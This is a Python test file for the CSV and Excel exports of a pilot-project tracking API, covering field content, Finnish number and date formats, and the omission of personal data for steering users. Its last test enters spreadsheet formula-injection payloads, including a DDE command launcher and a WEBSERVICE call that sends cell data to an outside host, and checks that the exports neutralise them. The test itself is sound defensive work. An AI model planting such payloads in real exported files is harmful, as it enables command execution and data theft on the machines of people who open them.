"""Exports of the portfolio and of a pilot's full record parse back to what the API says."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable

import httpx
from openpyxl import load_workbook

from tests.pilots.helpers import OWNER, PROJECT, add_indicator, approved_pilot, create_pilot

Auth = Callable[..., dict[str, str]]


def _csv(response: httpx.Response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert response.content.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


async def test_portfolio_exports(client: httpx.AsyncClient, auth: Auth) -> None:
    pm = auth("project_manager")
    first = await approved_pilot(client, pm, "Front desk, shared")
    await create_pilot(client, pm, "Still an idea")
    rows = _csv(await client.get(f"/projects/{PROJECT}/portfolio/export", headers=auth("steering")))
    assert "owner_id" not in rows[0]  # steering: no person ids in any export
    assert "owner_id" in _csv(await client.get(f"/projects/{PROJECT}/portfolio/export", headers=pm))[0]
    assert [(r["title"], r["stage"], r["counts_toward_rule"]) for r in rows] == [
        ("Front desk, shared", "approved", "true"),
        ("Still an idea", "idea", "false"),
    ]
    assert (
        rows[0]["id"] == first["id"] and rows[0]["sectors"] == "hyvinvoinnin-edistaminen, kasvu-ja-oppiminen"
    )
    xlsx = await client.get(f"/projects/{PROJECT}/portfolio/export", params={"format": "xlsx"}, headers=pm)
    assert xlsx.headers["content-disposition"].startswith("attachment;")
    book = load_workbook(io.BytesIO(xlsx.content))
    assert book.sheetnames == ["portfolio", "decisions", "summary"]
    pilots = list(book["portfolio"].iter_rows(values_only=True))
    assert pilots[1][:4] == (first["id"], "Front desk, shared", "approved", True)
    summary = dict(book["summary"].iter_rows(min_row=2, values_only=True))
    view = (await client.get(f"/projects/{PROJECT}/portfolio", headers=pm)).json()
    assert summary["active_count"] == view["active_count"] == 1
    assert summary["stage:idea"] == 1 and summary["minimum_met"] is False and summary["rule"] == view["rule"]
    assert (
        await client.get(f"/projects/{PROJECT}/portfolio/export", params={"format": "pdf"}, headers=pm)
    ).status_code == 422


async def test_pilot_record_exports(client: httpx.AsyncClient, auth: Auth) -> None:
    owner = auth("pilot_owner", subject=OWNER)
    pilot = await approved_pilot(client, auth("project_manager"), "Recorded", owner_id=OWNER)
    ind = await add_indicator(
        client,
        owner,
        pilot["id"],
        kind="well_being_at_work",
        name="Engagement",
        unit="1-7",
        direction="higher",
        baseline=4,
        target=5,
        survey_based=True,
    )
    for day, value, n in (("2021-03-01", 4.5, 30), ("2021-06-01", 4.8, 4)):
        await client.post(
            f"/pilots/{pilot['id']}/measurements",
            json={"indicator_id": ind["id"], "measured_on": day, "value": value, "respondents": n},
            headers=owner,
        )
    await client.post(
        f"/pilots/{pilot['id']}/timeline",
        json={"posted_on": "2021-03-02", "text": "Survey done"},
        headers=owner,
    )
    url = f"/pilots/{pilot['id']}/export"
    rows = _csv(await client.get(url, headers=owner))
    fields = {r["field"]: r["value"] for r in rows if r["section"] == "pilot"}
    assert fields["title"] == "Recorded" and fields["stage"] == "approved"
    assert fields["sectors"] == "hyvinvoinnin-edistaminen, kasvu-ja-oppiminen"
    assert fields["hypothesis.group_size"] == "40"
    history = [r["value"] for r in rows if r["section"] == "stage_history" and r["field"] == "to_stage"]
    assert history == ["idea", "planned", "approved"]
    values = [r["value"] for r in rows if r["section"] == "measurements" and r["field"] == "value"]
    assert values == ["4,5", "4,8"]  # Finnish Excel: decimal comma
    assert [r["value"] for r in rows if r["section"] == "timeline" and r["field"] == "text"] == [
        "Survey done"
    ]

    steering = _csv(await client.get(url, headers=auth("steering")))
    assert [r["value"] for r in steering if r["section"] == "measurements" and r["field"] == "value"] == [
        "4,5"
    ]
    # steering: no person ids and no person-written text in any section
    for field in (
        "owner_id",
        "need",
        "author_id",
        "text",
        "actor",
        "reason",
        "narrative",
        "hypothesis.action",
    ):
        assert not [r for r in steering if r["field"] == field], field
    assert [r["value"] for r in steering if r["section"] == "timeline" and r["field"] == "posted_on"] == [
        "2.3.2021"
    ]

    book = load_workbook(
        io.BytesIO((await client.get(url, params={"format": "xlsx"}, headers=owner)).content)
    )
    assert book.sheetnames == [
        "pilot",
        "indicators",
        "measurements",
        "stage_history",
        "decisions",
        "reflections",
        "frozen_changes",
        "timeline",
        "establishments",
    ]
    indicators = list(book["indicators"].iter_rows(values_only=True))
    header = indicators[0]
    engagement = dict(zip(header, indicators[2], strict=True))
    assert (engagement["name"], engagement["latest_value"], engagement["progress_percent"]) == (
        "Engagement",
        4.8,
        80,
    )
    measurements = list(book["measurements"].iter_rows(values_only=True))
    assert [m[4] for m in measurements[1:]] == [4.5, 4.8]


async def test_exports_carry_no_live_formula(client: httpx.AsyncClient, auth: Auth) -> None:
    """Issue 10: user text starting with =, +, -, @ comes out as inert text in every export."""
    import zipfile

    pm = auth("project_manager")
    title = "=cmd|' /C calc'!A0"
    pilot = await create_pilot(client, pm, title, need="+SUM(1,2)")
    await client.post(
        f"/pilots/{pilot['id']}/timeline", json={"text": '=WEBSERVICE("http://x/?"&A1)'}, headers=pm
    )
    ind = await add_indicator(client, pm, pilot["id"], name="@SUM(A1:A9)")
    await client.post(
        f"/pilots/{pilot['id']}/measurements",
        json={"indicator_id": ind["id"], "measured_on": "2021-01-04", "value": 12, "narrative": "-2+3"},
        headers=pm,
    )
    urls = [
        f"/pilots/{pilot['id']}/export",
        f"/pilots/{pilot['id']}/measurements/export",
        f"/projects/{PROJECT}/portfolio/export",
        f"/projects/{PROJECT}/learning/export",
    ]
    for url in urls:
        text = (await client.get(url, headers=pm)).content.decode("utf-8-sig")
        for cell in (title, "+SUM(1,2)", '=WEBSERVICE("http://x/?"&A1)', "@SUM(A1:A9)", "-2+3"):
            for line in text.splitlines():
                for value in next(csv.reader([line], delimiter=";")):
                    assert value != cell, (url, cell)  # never the bare formula
        xlsx = await client.get(url, params={"format": "xlsx"}, headers=pm)
        assert xlsx.status_code == 200
        with zipfile.ZipFile(io.BytesIO(xlsx.content)) as z:
            for name in z.namelist():
                if name.startswith("xl/worksheets/"):
                    assert b"<f>" not in z.read(name), (url, name)
    rows = _csv(await client.get(f"/projects/{PROJECT}/portfolio/export", headers=pm))
    assert rows[0]["title"] == "'" + title
